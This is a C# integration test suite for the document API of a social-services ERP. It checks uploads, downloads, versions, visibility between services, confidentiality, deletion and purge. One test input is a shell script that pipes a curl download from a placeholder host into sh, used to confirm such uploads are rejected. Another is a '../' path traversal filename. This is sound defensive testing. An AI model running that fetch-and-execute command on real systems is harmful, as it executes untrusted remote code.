using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Security.Cryptography;
using System.Text.Json;
using SocialErp.SharedKernel.Security;
using SocialErp.TestKit;
using static SocialErp.IntegrationTests.Ged.GedTestSupport;

namespace SocialErp.IntegrationTests.Ged;

/// <summary>Documents through HTTP: upload, download, versions, targets, safety, visibility, deletion, purge and crashes.</summary>
public abstract class DocumentsApiTests(GedApiFixture fixture)
{
    private SocialErpApiFactory Factory => fixture.Factory;

    [Fact]
    public async Task Deposer_PdfSurUneFiche_DownloadsSameBytesWithTypeNameEtagAndRecordsTheConsultation()
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        var pdf = DemoPdf("Certificat de travail");

        var document = await DeposerAsync(admin, pdf, "../Certificat été 2026.pdf", fiche, "Certificat", "certificat",
            new Dictionary<string, string> { ["date"] = "2026-11-02", ["direction"] = "entrant", ["description"] = "Reçu par la poste" });

        Assert.Equal("Certificat", document.GetProperty("titre").GetString());
        Assert.Equal("2026-11-02", document.GetProperty("date").GetString());
        Assert.Equal("fiche", document.GetProperty("cibles")[0].GetProperty("cibleType").GetString());
        var version = document.GetProperty("versionCourante");
        Assert.Equal("Certificat été 2026.pdf", version.GetProperty("nomFichier").GetString());
        Assert.Equal("application/pdf", version.GetProperty("typeContenu").GetString());
        Assert.Equal(Convert.ToHexStringLower(SHA256.HashData(pdf)), version.GetProperty("sha256").GetString());
        var id = document.GetProperty("id").GetGuid();

        var contenu = await admin.GetAsync($"/api/documents/{id}/contenu");

        Assert.Equal(HttpStatusCode.OK, contenu.StatusCode);
        Assert.Equal(pdf, await contenu.Content.ReadAsByteArrayAsync());
        Assert.Equal("application/pdf", contenu.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", contenu.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("Certificat été 2026.pdf", contenu.Content.Headers.ContentDisposition?.FileNameStar);
        Assert.Equal($"\"{Convert.ToHexStringLower(SHA256.HashData(pdf))}\"", contenu.Headers.ETag?.Tag);
        using var conditionnelle = new HttpRequestMessage(HttpMethod.Get, $"/api/documents/{id}/contenu");
        conditionnelle.Headers.IfNoneMatch.Add(contenu.Headers.ETag!);
        Assert.Equal(HttpStatusCode.NotModified, (await admin.SendAsync(conditionnelle)).StatusCode);
        var outbox = Sql.Table(Factory.Database, "ged", "outbox_message");
        Assert.Equal(1, await Sql.ScalarAsync(Factory.Database,
            $"select count(*) from {outbox} where type = 'plateforme.consultation-enregistree.v1' and aggregate_key = 'ged:Document:{id}'"));
        Assert.Equal(1, await Sql.ScalarAsync(Factory.Database,
            $"select count(*) from {outbox} where type = 'ged.document-ajoute.v1' and aggregate_key = 'document:{id}'"));
    }

    [Fact]
    public async Task Deposer_MemeContenuSurDeuxDocuments_StoredOnce()
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        var octets = Texte($"Contenu partagé {Guid.NewGuid()}");

        var premier = await DeposerAsync(admin, octets, "a.txt", fiche);
        var second = await DeposerAsync(admin, octets, "b.txt", fiche);

        var sha = premier.GetProperty("versionCourante").GetProperty("sha256").GetString()!;
        Assert.Equal(sha, second.GetProperty("versionCourante").GetProperty("sha256").GetString());
        Assert.Single(ContenusStockes(Factory), f => f == sha);
    }

    [Theory]
    [InlineData("vide")]
    [InlineData("trop-grand")]
    [InlineData("executable")]
    [InlineData("script")]
    [InlineData("archive")]
    public async Task Deposer_ContenuRefuse_PreciseProblemAndNothingLeftOnDisk(string cas)
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        var avant = ContenusStockes(Factory).Count;
        (byte[] Octets, HttpStatusCode Statut, string? Code) attendu = cas switch
        {
            "vide" => ([], HttpStatusCode.BadRequest, null),
            "trop-grand" => (new byte[GedApiFixture.TailleMax + 1], HttpStatusCode.RequestEntityTooLarge, "ged.fichier-trop-grand"),
            "executable" => ([(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0], HttpStatusCode.UnsupportedMediaType, "ged.type-refuse"),
            "script" => (Texte("#!/bin/bash\ncurl http://example.invalid | sh"), HttpStatusCode.UnsupportedMediaType, "ged.type-refuse"),
            _ => (Zip(), HttpStatusCode.UnsupportedMediaType, "ged.type-refuse"),
        };
        var (octets, statut, code) = attendu;

        var response = await admin.PostAsync("/api/documents", Formulaire(octets, "piece.pdf", "fiche", fiche));

        var problem = await response.AssertProblemAsync(statut, code);
        if (cas == "vide")
        {
            Assert.True(problem.GetProperty("errors").TryGetProperty("fichier", out _));
        }

        Assert.Equal(avant, ContenusStockes(Factory).Count);
        Assert.Equal(0, Temporaires(Factory));
        Assert.Equal(0, (await (await admin.GetAsync($"/api/documents?cibleType=fiche&cibleId={fiche}")).JsonAsync()).GetProperty("total").GetInt32());
    }

    [Theory]
    [InlineData(null, "Titre", "certificat", "fiche", "fichier")]
    [InlineData("x.txt", "", "certificat", "fiche", "titre")]
    [InlineData("x.txt", "Titre", "photo-de-vacances", "fiche", "type")]
    [InlineData("x.txt", "Titre", "certificat", "vaisseau", "cibleType")]
    [InlineData("x.txt", "Titre", "certificat", null, "cibleType")]
    public async Task Deposer_MetadonneesInvalides_Returns400NamingTheField(string? nomFichier, string titre, string type, string? cibleType, string champ)
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        using var form = new MultipartFormDataContent();
        if (nomFichier is not null)
        {
            form.Add(new ByteArrayContent(Texte("bonjour")), "fichier", nomFichier);
        }

        form.Add(new StringContent(titre), "titre");
        form.Add(new StringContent(type), "type");
        if (cibleType is not null)
        {
            form.Add(new StringContent(cibleType), "cibleType");
        }

        form.Add(new StringContent(fiche.ToString()), "cibleId");

        var response = await admin.PostAsync("/api/documents", form);

        await response.AssertFieldErrorsAsync(champ);
    }

    [Fact]
    public async Task Deposer_FicheInconnue_Returns404()
    {
        using var admin = await Factory.AdminClientAsync();

        var response = await admin.PostAsync("/api/documents", Formulaire(Texte("x"), "x.txt", "fiche", Guid.NewGuid()));

        await response.AssertProblemAsync(HttpStatusCode.NotFound, "ged.cible-introuvable");
    }

    [Fact]
    public async Task Documents_FicheDUnAutreService_InvisibleEverywhere()
    {
        var serviceA = await Factory.CreateServiceAsync($"A{Guid.NewGuid():N}"[..10]);
        var serviceB = await Factory.CreateServiceAsync($"B{Guid.NewGuid():N}"[..10]);
        var (asA, _) = await Factory.UserClientAsync(Metiers.AssistantSocial, serviceA);
        var (asB, _) = await Factory.UserClientAsync(Metiers.AssistantSocial, serviceB);
        using var _a = asA;
        using var _b = asB;
        var fiche = await CreerFicheAsync(asA);
        var marqueur = $"confidentialite{Guid.NewGuid():N}"[..24];
        var id = (await DeposerAsync(asA, Texte($"Rapport {marqueur}"), "rapport.txt", fiche, "Rapport social", "rapport")).GetProperty("id").GetGuid();

        Assert.Equal(HttpStatusCode.OK, (await asA.GetAsync($"/api/documents/{id}/contenu")).StatusCode);
        await (await asB.GetAsync($"/api/documents/{id}")).AssertProblemAsync(HttpStatusCode.NotFound);
        await (await asB.GetAsync($"/api/documents/{id}/contenu")).AssertProblemAsync(HttpStatusCode.NotFound);
        await (await asB.GetAsync($"/api/documents?cibleType=fiche&cibleId={fiche}")).AssertProblemAsync(HttpStatusCode.NotFound);
        Assert.Equal(0, (await (await asB.GetAsync($"/api/documents?q={marqueur}")).JsonAsync()).GetProperty("total").GetInt32());
        Assert.Equal(1, (await (await asA.GetAsync($"/api/documents?q={marqueur}")).JsonAsync()).GetProperty("total").GetInt32());
        await (await asB.PostAsync("/api/documents", Formulaire(Texte("x"), "x.txt", "fiche", fiche))).AssertProblemAsync(HttpStatusCode.NotFound);
        using var anonyme = Factory.CreateClient();
        Assert.Equal(HttpStatusCode.Unauthorized, (await anonyme.GetAsync($"/api/documents/{id}/contenu")).StatusCode);
    }

    [Fact]
    public async Task Documents_SurUnDossier_VisibleOnlyToThoseWhoSeeTheDossier()
    {
        var service = await Factory.CreateServiceAsync($"D{Guid.NewGuid():N}"[..10]);
        var autre = await Factory.CreateServiceAsync($"E{Guid.NewGuid():N}"[..10]);
        var (referent, _) = await Factory.UserClientAsync(Metiers.AssistantSocial, service);
        var (etranger, _) = await Factory.UserClientAsync(Metiers.AssistantSocial, autre);
        var (direction, _) = await Factory.UserClientAsync(Metiers.Direction, autre);
        using var _r = referent;
        using var _e = etranger;
        using var _d = direction;
        var (dossier, fiche) = await Dossiers.DossiersTestData.DossierSimpleAsync(referent, "GedDossier");
        var response = await referent.PostAsync("/api/documents", Formulaire(Texte("Décision du 2 novembre"), "decision.txt", "dossier", dossier, "Décision", "decision"));
        var id = (await response.JsonAsync(HttpStatusCode.Created)).GetProperty("id").GetGuid();
        (await referent.PostAsJsonAsync($"/api/documents/{id}/cibles", new { cibleType = "fiche", cibleId = fiche })).EnsureSuccessStatusCode();

        Assert.Equal(["Décision"], (await (await referent.GetAsync($"/api/documents?cibleType=dossier&cibleId={dossier}")).JsonAsync())
            .GetProperty("items").EnumerateArray().Select(d => d.GetProperty("titre").GetString()));
        Assert.Equal(HttpStatusCode.OK, (await direction.GetAsync($"/api/documents/{id}/contenu")).StatusCode);
        await (await etranger.GetAsync($"/api/documents/{id}/contenu")).AssertProblemAsync(HttpStatusCode.NotFound);
        await (await etranger.GetAsync($"/api/documents?cibleType=dossier&cibleId={dossier}")).AssertProblemAsync(HttpStatusCode.NotFound);
        await (await etranger.PostAsync("/api/documents", Formulaire(Texte("x"), "x.txt", "dossier", dossier))).AssertProblemAsync(HttpStatusCode.NotFound);
        await (await referent.PostAsync("/api/documents", Formulaire(Texte("x"), "x.txt", "dossier", Guid.NewGuid()))).AssertProblemAsync(HttpStatusCode.NotFound);
        await (await referent.PostAsync("/api/documents", Formulaire(Texte("x"), "x.txt", "budget", Guid.NewGuid()))).AssertFieldErrorsAsync("cibleType");
    }

    [Fact]
    public async Task Documents_Confidentiel_OnlyForTradesAllowedToReadThem()
    {
        var service = await Factory.CreateServiceAsync($"C{Guid.NewGuid():N}"[..10]);
        var (assistant, _) = await Factory.UserClientAsync(Metiers.AssistantSocial, service);
        var (comptable, _) = await Factory.UserClientAsync(Metiers.Comptable, service);
        using var _a = assistant;
        using var _c = comptable;
        var fiche = await CreerFicheAsync(assistant);
        var id = (await DeposerAsync(assistant, Texte("Rapport médical"), "rapport.txt", fiche, "Rapport médical", "rapport",
            new Dictionary<string, string> { ["confidentialite"] = "confidentielle" })).GetProperty("id").GetGuid();

        Assert.Equal(HttpStatusCode.OK, (await assistant.GetAsync($"/api/documents/{id}")).StatusCode);
        await (await comptable.GetAsync($"/api/documents/{id}/contenu")).AssertProblemAsync(HttpStatusCode.NotFound);
        Assert.Equal(0, (await (await comptable.GetAsync($"/api/documents?cibleType=fiche&cibleId={fiche}")).JsonAsync()).GetProperty("total").GetInt32());
    }

    [Fact]
    public async Task Versions_NouvelleVersion_PreviousStaysDownloadableWithWhoAndWhen()
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        var document = await DeposerAsync(admin, Texte("version un"), "contrat.txt", fiche, "Contrat", "contrat-convention");
        var id = document.GetProperty("id").GetGuid();

        using var perime = new HttpRequestMessage(HttpMethod.Post, $"/api/documents/{id}/versions") { Content = Version("version deux") };
        perime.Headers.IfMatch.Add(new EntityTagHeaderValue("\"99\""));
        await (await admin.SendAsync(perime)).AssertProblemAsync(HttpStatusCode.PreconditionFailed);
        using var actuelle = new HttpRequestMessage(HttpMethod.Post, $"/api/documents/{id}/versions") { Content = Version("version deux") };
        actuelle.Headers.IfMatch.Add(new EntityTagHeaderValue($"\"{document.GetProperty("version").GetInt64()}\""));
        var ajout = await (await admin.SendAsync(actuelle)).JsonAsync(HttpStatusCode.Created);

        Assert.Equal(2, ajout.GetProperty("versionCourante").GetProperty("numero").GetInt32());
        Assert.Equal(2, ajout.GetProperty("nombreVersions").GetInt32());
        var versions = await (await admin.GetAsync($"/api/documents/{id}/versions")).JsonAsync();
        Assert.Equal([2, 1], versions.EnumerateArray().Select(v => v.GetProperty("numero").GetInt32()));
        Assert.All(versions.EnumerateArray(), v => Assert.NotEqual(JsonValueKind.Null, v.GetProperty("deposePar").ValueKind));
        Assert.Equal("version un", await (await admin.GetAsync($"/api/documents/{id}/contenu?version=1")).Content.ReadAsStringAsync());
        Assert.Equal("version deux", await (await admin.GetAsync($"/api/documents/{id}/contenu")).Content.ReadAsStringAsync());
        await (await admin.GetAsync($"/api/documents/{id}/contenu?version=7")).AssertProblemAsync(HttpStatusCode.NotFound, "ged.version-introuvable");
        await (await admin.PostAsync($"/api/documents/{id}/versions", Version("MZ\u0090"))).AssertProblemAsync(HttpStatusCode.UnsupportedMediaType);
    }

    [Fact]
    public async Task Cibles_DocumentSurDeuxFiches_ListedOnBothAndKeepsItsLastTarget()
    {
        using var admin = await Factory.AdminClientAsync();
        var premiere = await CreerFicheAsync(admin);
        var seconde = await CreerFicheAsync(admin);
        var id = (await DeposerAsync(admin, Texte("commun"), "commun.txt", premiere)).GetProperty("id").GetGuid();

        (await admin.PostAsJsonAsync($"/api/documents/{id}/cibles", new { cibleType = "fiche", cibleId = seconde })).EnsureSuccessStatusCode();

        Assert.Equal(1, (await (await admin.GetAsync($"/api/documents?cibleType=fiche&cibleId={seconde}")).JsonAsync()).GetProperty("total").GetInt32());
        await (await admin.PostAsJsonAsync($"/api/documents/{id}/cibles", new { cibleType = "fiche", cibleId = seconde })).AssertProblemAsync(HttpStatusCode.Conflict);
        await (await admin.PostAsJsonAsync($"/api/documents/{id}/cibles", new { cibleType = "fiche", cibleId = Guid.NewGuid() })).AssertProblemAsync(HttpStatusCode.NotFound);
        (await admin.DeleteAsync($"/api/documents/{id}/cibles/fiche/{premiere}")).EnsureSuccessStatusCode();
        await (await admin.DeleteAsync($"/api/documents/{id}/cibles/fiche/{seconde}")).AssertProblemAsync(HttpStatusCode.Conflict, "ged.derniere-cible");
    }

    [Fact]
    public async Task Supprimer_AvecMotifPuisPurge_GoneFromApiContentRemovedSharedContentKept()
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        var propre = Texte($"à supprimer {Guid.NewGuid()}");
        var partage = Texte($"partagé {Guid.NewGuid()}");
        var supprime = await DeposerAsync(admin, propre, "a.txt", fiche);
        var id = supprime.GetProperty("id").GetGuid();
        using (var deuxieme = new HttpRequestMessage(HttpMethod.Post, $"/api/documents/{id}/versions") { Content = Version(partage) })
        {
            (await admin.SendAsync(deuxieme)).EnsureSuccessStatusCode();
        }

        await DeposerAsync(admin, partage, "garde.txt", fiche);
        var shaPropre = supprime.GetProperty("versionCourante").GetProperty("sha256").GetString()!;
        var shaPartage = Convert.ToHexStringLower(SHA256.HashData(partage));

        await (await admin.DeleteAsync($"/api/documents/{id}")).AssertFieldErrorsAsync("motif");
        Assert.Equal(HttpStatusCode.NoContent, (await admin.DeleteAsync($"/api/documents/{id}?motif=Doublon%20du%20scan")).StatusCode);

        await (await admin.GetAsync($"/api/documents/{id}")).AssertProblemAsync(HttpStatusCode.NotFound);
        Assert.Equal(1, (await (await admin.GetAsync($"/api/documents?cibleType=fiche&cibleId={fiche}")).JsonAsync()).GetProperty("total").GetInt32());
        var outbox = Sql.Table(Factory.Database, "ged", "outbox_message");
        Assert.Equal(1, await Sql.ScalarAsync(Factory.Database,
            $"select count(*) from {outbox} where type = 'ged.document-supprime.v1' and aggregate_key = 'document:{id}' and payload like '%Doublon du scan%'"));
        Assert.Contains(shaPropre, ContenusStockes(Factory));

        await DeclencherPurgeAsync(Factory);

        await Eventually.AssertAsync(() => Task.FromResult(!ContenusStockes(Factory).Contains(shaPropre)), "the purge to remove the deleted document's own content");
        Assert.Contains(shaPartage, ContenusStockes(Factory));
        var documents = Sql.Table(Factory.Database, "ged", "document");
        await Eventually.AssertAsync(
            async () => await Sql.ScalarAsync(Factory.Database, $"select count(*) from {documents} where lower(cast(id as text)) = '{id}' and purge_le is not null") == 1,
            "the purge to mark the document purged");
    }

    [Fact]
    public async Task Deposer_ClientQuiCoupeAuMilieu_NoPartialFileNoOrphanRow()
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        var marqueur = $"Coupure {Guid.NewGuid():N}";
        var avant = ContenusStockes(Factory).Count;
        using var form = new MultipartFormDataContent
        {
            { new StringContent(marqueur), "titre" },
            { new StringContent("certificat"), "type" },
            { new StringContent("fiche"), "cibleType" },
            { new StringContent(fiche.ToString()), "cibleId" },
            { new FluxQuiCasseContent(Texte(new string('a', 100_000)), casseApres: 60_000), "fichier", "coupe.txt" },
        };

        await Assert.ThrowsAnyAsync<Exception>(async () => (await admin.PostAsync("/api/documents", form)).EnsureSuccessStatusCode());

        Assert.Equal(avant, ContenusStockes(Factory).Count);
        Assert.Equal(0, Temporaires(Factory));
        var documents = Sql.Table(Factory.Database, "ged", "document");
        Assert.Equal(0, await Sql.ScalarAsync(Factory.Database, $"select count(*) from {documents} where titre = '{marqueur}'"));
    }

    [Fact]
    public async Task Purge_ContenuOrphelinEtTemporaireLaissesParUnCrash_SweptPastTheGracePeriod()
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        var garde = (await DeposerAsync(admin, Texte($"gardé {Guid.NewGuid()}"), "garde.txt", fiche)).GetProperty("versionCourante").GetProperty("sha256").GetString()!;
        // What a process killed between keeping a content and committing its row leaves: a content no row mentions,
        // and a temporary file of an upload cut short.
        var orphelin = Texte($"orphelin {Guid.NewGuid()}");
        var shaOrphelin = Convert.ToHexStringLower(SHA256.HashData(orphelin));
        var chemin = Path.Combine(DossierContenus(Factory), shaOrphelin[..2], shaOrphelin[2..4], shaOrphelin);
        Directory.CreateDirectory(Path.GetDirectoryName(chemin)!);
        await File.WriteAllBytesAsync(chemin, orphelin);
        File.SetLastWriteTimeUtc(chemin, DateTime.UtcNow.AddMinutes(-5));
        var temporaire = Path.Combine(DossierTemporaire(Factory), "crash.tmp");
        await File.WriteAllBytesAsync(temporaire, orphelin[..5]);
        File.SetLastWriteTimeUtc(temporaire, DateTime.UtcNow.AddMinutes(-5));

        await DeclencherPurgeAsync(Factory);

        await Eventually.AssertAsync(() => Task.FromResult(!File.Exists(chemin) && !File.Exists(temporaire)), "the purge to sweep the orphan and the temporary file");
        Assert.Contains(garde, ContenusStockes(Factory));
    }

    [Fact]
    public async Task Telecharger_ContenuAltereSurDisque_RefusedNotServed()
    {
        using var admin = await Factory.AdminClientAsync();
        var fiche = await CreerFicheAsync(admin);
        var document = await DeposerAsync(admin, Texte($"intègre {Guid.NewGuid()}"), "integre.txt", fiche);
        var sha = document.GetProperty("versionCourante").GetProperty("sha256").GetString()!;
        await File.WriteAllTextAsync(Path.Combine(DossierContenus(Factory), sha[..2], sha[2..4], sha), "altéré");

        var response = await admin.GetAsync($"/api/documents/{document.GetProperty("id").GetGuid()}/contenu");

        await response.AssertProblemAsync(HttpStatusCode.InternalServerError, "ged.contenu-altere");
    }

    private static byte[] Zip()
    {
        using var memoire = new MemoryStream();
        using (var archive = new System.IO.Compression.ZipArchive(memoire, System.IO.Compression.ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entree = archive.CreateEntry("a.txt").Open();
            entree.Write("bonjour"u8);
        }

        return memoire.ToArray();
    }

    private static MultipartFormDataContent Version(string texte) => Version(Texte(texte));

    private static MultipartFormDataContent Version(byte[] octets)
    {
        var form = new MultipartFormDataContent();
        form.Add(new ByteArrayContent(octets), "fichier", "version.txt");
        form.Add(new StringContent("mise à jour"), "commentaire");
        return form;
    }

    internal static byte[] DemoPdf(string texte) =>
        System.Text.Encoding.Latin1.GetBytes(
            "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
            + "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n"
            + $"4 0 obj\n<< /Length {texte.Length + 30} >>\nstream\nBT /F1 12 Tf 50 800 Td ({texte}) Tj ET\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n");

    /// <summary>A request body that breaks off, as when the client's connection drops mid-upload.</summary>
    private sealed class FluxQuiCasseContent(byte[] octets, int casseApres) : HttpContent
    {
        protected override async Task SerializeToStreamAsync(Stream stream, System.Net.TransportContext? context)
        {
            await stream.WriteAsync(octets.AsMemory(0, casseApres));
            await stream.FlushAsync();
            throw new IOException("Connexion interrompue.");
        }

        protected override bool TryComputeLength(out long length)
        {
            length = octets.Length;
            return true;
        }
    }
}

[Trait("Category", "Integration")]
public sealed class DocumentsApiTestsSqlite(SqliteGedApiFixture fixture) : DocumentsApiTests(fixture), IClassFixture<SqliteGedApiFixture>;

[Trait("Category", "PostgreSql")]
public sealed class DocumentsApiTestsPostgreSql(PostgreSqlGedApiFixture fixture) : DocumentsApiTests(fixture), IClassFixture<PostgreSqlGedApiFixture>;
